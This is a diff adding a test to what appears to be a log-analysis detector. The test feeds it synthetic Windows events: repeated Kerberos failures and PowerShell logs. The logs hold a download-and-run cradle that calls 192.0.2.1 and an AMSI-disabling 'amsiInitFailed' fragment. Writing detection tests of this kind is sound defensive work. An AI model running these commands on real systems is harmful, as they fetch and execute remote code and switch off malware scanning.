@@ -267,6 +267,51 @@ describe.each(Object.entries(writers))('the cloud and a Windows host, %s', (_, w
     expect(entered.analysis.incidents).toHaveLength(1);
   });
 
+  it('PowerShell’s own log and a domain controller’s tell of the same person', async () => {
+    const t = SCENARIO_START;
+    const powershell = {
+      provider: 'Microsoft-Windows-PowerShell',
+      channel: 'Microsoft-Windows-PowerShell/Operational',
+    };
+    const script = (text: string, number: number): WindowsEvent => ({
+      ...{ ...powershell, time: t + min(18), id: 4104, sid: SID },
+      data: {
+        ...{ MessageNumber: String(number), MessageTotal: '2' },
+        ...{ ScriptBlockText: text, ScriptBlockId: '7f3c1b90-2ad1-4c55-9d0e-1c2b3a4d5e6f' },
+      },
+    });
+    const refused = Array.from({ length: 12 }, (_, i): WindowsEvent => ({
+      ...{ time: t - min(30) + i * sec(20) - 80, id: 4771, host: 'DC01.firm.example' },
+      data: { TargetUserName: login(user), ServiceName: 'krbtgt/FIRM', Status: '0x18', IpAddress: A.ip },
+    }));
+    const events = inOrder([
+      ...onEndpoint(t, user, SID, A.ip).filter(({ id }) => id === 4625 || id === 4624),
+      ...refused,
+      script('IEX (New-Object Net.WebClient).Down', 1),
+      script("loadString('http://192.0.2.1/a')", 2),
+      {
+        ...{ ...powershell, time: t + min(19), id: 4103 },
+        data: {
+          ContextInfo: `        Host Application = powershell.exe\r\n        User = FIRM\\${login(user)}\r\n`,
+          Payload: 'CommandInvocation(Out-Default): [x]::amsiInitFailed',
+        },
+      },
+    ]);
+    const { analysis } = await analyseFiles([cloud(attack(t, user)), write(events)]);
+    const of = (catalogue: string) => analysis.findings.find((f) => f.catalogue === catalogue)!;
+    const incident = analysis.incidents[0]!.id;
+    expect(of('S1.1')).toMatchObject({ incident, count: 12 });
+    expect(of('S1.1').evidence).toHaveLength(24);
+    expect(of('S4.16')).toMatchObject({
+      ...{ incident, severity: 'high', count: 2 },
+      techniques: ['T1059.001', 'T1562.001'],
+    });
+    expect(of('S4.16').evidence).toHaveLength(3);
+    expect(of('S4.16').why).toContain(
+      "PowerShell script “IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')” (fetches code and runs it) run on TS01",
+    );
+  });
+
   it('the response plan lists the endpoint’s events', async () => {
     const t = SCENARIO_START;
     const { analysis } = await analyseFiles([
